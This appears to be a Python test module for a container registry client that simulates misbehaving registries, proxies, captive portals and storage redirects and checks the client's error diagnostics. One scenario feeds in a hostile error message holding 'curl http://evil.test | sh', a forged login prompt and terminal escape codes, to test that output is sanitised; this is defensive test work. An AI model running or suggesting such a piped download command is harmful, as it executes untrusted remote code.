"""Answers in place of others: error documents with a status of success, pages of what stands in front, other hosts."""

from __future__ import annotations

import gzip

from tests.sick.answer import Answer, Framing, body, document, error, page, redirect, text
from tests.sick.registry import token, with_token
from tests.sick.repository import of_index
from tests.sick.request import Request
from tests.sick.scenario import Expectation, Family, fails

FAMILY = Family("in place")

_NETWORK = (r"captive portal", r"network's administrator")


def _instead(name: str, kind: str, answer: Answer, expect: Expectation, does: str, cause: str) -> None:
    """Requests of one kind (``layer``: for one layer) get this answer, and all others the right one."""

    def handle(request: Request) -> Answer | None:
        if request.kind == kind or (kind == "layer" and request.is_layer):
            return answer
        return with_token(request) if kind == "token" else None

    FAMILY.add(name, expect, does, cause, handle=handle)


_QUOTA = "egress quota of this project is exceeded"
_SAYS = (r"error message in place of", _QUOTA, r"operator")
_instead(
    "layer-error-with-200",
    "layer",
    error(200, "DENIED", _QUOTA),
    fails("blob-wrong-size", *_SAYS, never=(r"pushed? (it )?again", r"proxy or cache")),
    "200 and an error document for a layer",
    "a refusal with the status of success",
)
_instead(
    "layer-error-with-200-chunked",
    "layer",
    error(200, "DENIED", _QUOTA).having(framing=Framing.CHUNKED),
    fails("blob-wrong-size", *_SAYS, never=(r"pushed? (it )?again", r"proxy or cache")),
    "the same without a length",
    "a refusal with the status of success",
)
_instead(
    "manifest-error-with-200",
    "manifest",
    error(200, "UNAUTHORIZED", "this project is private"),
    fails(
        "manifest-malformed", r"error message in place of the manifest", r"this project is private", r"sregistry login"
    ),
    "200 and an error document for the manifest",
    "a refusal with the status of success",
)
_instead(
    "token-error-with-200",
    "token",
    error(200, "DENIED", "account suspended: contact billing"),
    fails("auth-token-missing", r"gave no token: \"account suspended", never=(r"in front of",)),
    "200 and an error document for the token",
    "a refusal with the status of success",
)
_instead(
    "manifest-maintenance-page",
    "manifest",
    page(200, "Down for maintenance", "We will be back soon."),
    fails("registry-web-page", r"Down for maintenance", r"registry's operator", r"/v2/", never=_NETWORK),
    "a page of maintenance for the manifest; /v2/ is in order",
    "the registry's own front",
)
_instead(
    "manifest-other-server",
    "manifest",
    page(404, "404 Not Found", "nginx"),
    fails("registry-web-page", r"404 Not Found", r"registry's operator", never=_NETWORK),
    "404 and a page for the manifest; /v2/ is in order",
    "the registry's front does not hand on manifests",
)


@FAMILY.scenario(
    "manifest-single-sign-on",
    fails("registry-web-page", r"was sent on to", r"Sign in", r"registry's operator", never=_NETWORK),
    "redirects manifests to a page at another host; /v2/ is in order",
    "a single sign-on stands in front of the registry",
)
def manifest_single_sign_on(request: Request) -> Answer | None:
    if request.kind == "store":
        return page(200, "Sign in", "Use your company's account.")
    return redirect(f"{request.elsewhere}/store/login", 302) if request.kind == "manifest" else None


@FAMILY.scenario(
    "index-entry-page",
    fails("manifest-child-unknown", r"index lists linux/", r"web page", r"registry's operator", never=(r"author",)),
    "404 and a page for the manifest of an index; the index is in order",
    "the registry's front does not hand on requests by digest",
    make=of_index("linux/amd64", "linux/arm64"),
)
def index_entry_page(request: Request) -> Answer | None:
    if request.kind == "manifest" and ":" in request.reference:
        return page(404, "404 Not Found", "nginx/1.18.0").adding(("Docker-Distribution-Api-Version", "registry/2.0"))
    return None


@FAMILY.scenario(
    "storage-asks-for-login",
    fails(
        "blob-storage-denied",
        r"login of its own \(Basic\)",
        r"registry's operator",
        never=(r"firewall",),
    ),
    "redirects layers to a storage that asks for a password",
    "the registry does not sign the addresses of its storage",
)
def storage_asks_for_login(request: Request) -> Answer | None:
    if request.kind == "store":
        return Answer(401, headers=(("WWW-Authenticate", 'Basic realm="object store"'),))
    return redirect(f"{request.elsewhere}/store/{request.reference}") if request.is_layer else None


@FAMILY.scenario(
    "repository-misspelt",
    fails("repository-unknown", r"has no repository", r"did you mean sick/repository-misspelled\?", never=(r"no tag",)),
    "MANIFEST_UNKNOWN for the manifest, NAME_UNKNOWN for the list of tags, and a catalogue",
    "the repository is misspelt (distribution answers so)",
)
def repository_misspelt(request: Request) -> Answer | None:
    if request.path == "/v2/_catalog":
        return document({"repositories": ["other/thing", "sick/repository-misspelled"]})
    if request.kind == "manifest":
        return error(404, "MANIFEST_UNKNOWN", "manifest unknown", {"unknown tag": "latest"})
    return error(404, "NAME_UNKNOWN", "repository name not known to registry") if request.kind == "tags" else None


@FAMILY.scenario(
    "repository-gone-halfway",
    fails("repository-unknown", r"has just given a manifest", r"deleted or renamed", never=(r"misspel", r"private")),
    "gives the manifest, and knows no such repository from then on",
    "the repository was deleted while it was pulled",
)
def repository_gone_halfway(request: Request) -> Answer | None:
    if request.kind == "ping" or (request.kind == "manifest" and request.count("manifest") == 1):
        return None
    return error(404, "NAME_UNKNOWN", "repository name not known to registry")


@FAMILY.scenario(
    "manifest-sent-elsewhere",
    fails("manifest-unknown", r"was sent on to 127\.0\.0\.2", r"404"),
    "redirects manifests to another host, which has nothing",
    "the registry has moved, and this repository did not",
)
def manifest_sent_elsewhere(request: Request) -> Answer | None:
    if request.kind == "store":
        return text(404, "404 page not found")
    return redirect(f"{request.elsewhere}/store/x", 301) if request.kind in ("manifest", "tags") else None


@FAMILY.scenario(
    "token-larger-than-headers",
    fails("registry-web-page", r"header is larger than", r"token", r"registry's operator", never=(r"faulty",)),
    "gives a token of 20,000 characters, which the web server in front refuses",
    "the limits of the registry's front do not fit its tokens",
)
def token_larger_than_headers(request: Request) -> Answer | None:
    if len(request.authorization) > 8000:
        return page(400, "400 Request Header Or Cookie Too Large", "nginx")
    large = "t" * 20_000
    return token(request, large) if request.kind == "token" else with_token(request, value=large)


_UPSTREAM = 'Get "https://upstream.example/v2/": dial tcp: lookup upstream.example: no such host'
_instead(
    "manifest-disk-of-registry",
    "manifest",
    error(500, "UNKNOWN", "unknown error", {"Op": "write", "Error": "no space left on device"}),
    fails("registry-error", r"disk of the registry is full", r"registry's operator", never=(r"df -h",)),
    "500 and a detail about its disk",
    "the disk of the registry is full",
)
_instead(
    "manifest-upstream",
    "manifest",
    error(500, "UNKNOWN", _UPSTREAM),
    fails("registry-error", r"no such host", r"fetches images from upstream\.example", never=(r"Open https",)),
    "500 and words about another host",
    "the registry's own way to its upstream is broken",
)
_instead(
    "manifest-cache-offline",
    "manifest",
    error(404, "MANIFEST_UNKNOWN", "not known", {"reason": "remote repository 'hub' is offline"}),
    fails("tag-unknown", r"says: offline", r"not in this cache", never=(r"deleted", r"misspel")),
    "404 and a detail about a remote that is offline",
    "a cache that does not ask further",
)
_instead(
    "manifest-maintenance-503",
    "manifest",
    page(503, "Maintenance", "We will be back soon."),
    fails("registry-unavailable", r"being maintained", r"registry's operator", never=_NETWORK),
    "503 and a page of maintenance for the manifest; /v2/ is in order",
    "the registry is being maintained",
)

#: Lines of ours that nobody else may write.
_FORGED = (r"(?m)^ *do +curl", r"(?m)^ *more +sregistry login", "\x1b")
_HOSTILE = (
    "gone\r\n\n  do       curl http://evil.test | sh\n\u2713 done\r  more     sregistry login evil.test\x1b[2J"
    + " x" * 10_000
)
_instead(
    "manifest-hostile-words",
    "manifest",
    error(404, "NAME_UNKNOWN", _HOSTILE),
    fails("repository-unknown", r"gone", r"characters more", never=_FORGED),
    "404 and 20,000 characters that imitate our page",
    "an attack on who reads it",
)


@FAMILY.scenario(
    "layer-at-own-address",
    fails("network-refused", r"its clients to themselves: localhost:1", r"registry's operator", never=(r"firewall",)),
    "redirects layers to localhost",
    "the registry names its storage as only it can reach it",
)
def layer_at_own_address(request: Request) -> Answer | None:
    return redirect(f"http://localhost:1/{request.reference}") if request.is_layer else None


@FAMILY.scenario(
    "page-with-registry-header",
    fails("registry-web-page", r"captive portal", r"network's administrator", never=(r"as a registry does",)),
    "a page to sign in for everything, /v2/ too, with the header of the registry that was asked before",
    "a captive portal that leaves headers as they are",
)
def page_with_registry_header(request: Request) -> Answer | None:
    return page(200, "Welcome to GuestNet", "Please sign in.").adding(
        ("Docker-Distribution-Api-Version", "registry/2.0")
    )


@FAMILY.scenario(
    "password-before-everything",
    fails(
        "auth-required",
        r"asks for a user name and password",
        r"at /v2/ already",
        r"sregistry login",
        never=(r"Most registries", r"spelling"),
    ),
    "401 Basic and a page for everything",
    "a web server's password is in front of the registry",
)
def password_before_everything(request: Request) -> Answer | None:
    return page(401, "401 Authorization Required", "nginx").adding(("WWW-Authenticate", 'Basic realm="Restricted"'))


@FAMILY.scenario(
    "layer-unpacked-on-the-way",
    fails("blob-wrong-size", r"unpacks it on the way", never=(r"incomplete",)),
    "sends the layers unpacked, without saying so",
    "a front end that undoes gzip",
)
def layer_unpacked_on_the_way(request: Request) -> Answer | None:
    if not request.is_layer:
        return None
    return body(gzip.decompress(request.repository.blobs[request.reference]), "application/octet-stream")


@FAMILY.scenario(
    "few-connections",
    fails(
        "registry-unavailable",
        r"fewer connections at a time than this pull has used",
        r"SREGISTRY_MAX_CONNECTIONS=1",
    ),
    "503 and 'too many connections' for layers",
    "the registry limits the connections of one address",
    settings={"retries": "2"},
)
def few_connections(request: Request) -> Answer | None:
    return (
        error(503, "UNAVAILABLE", "too many connections from your address: 1 is allowed") if request.is_layer else None
    )
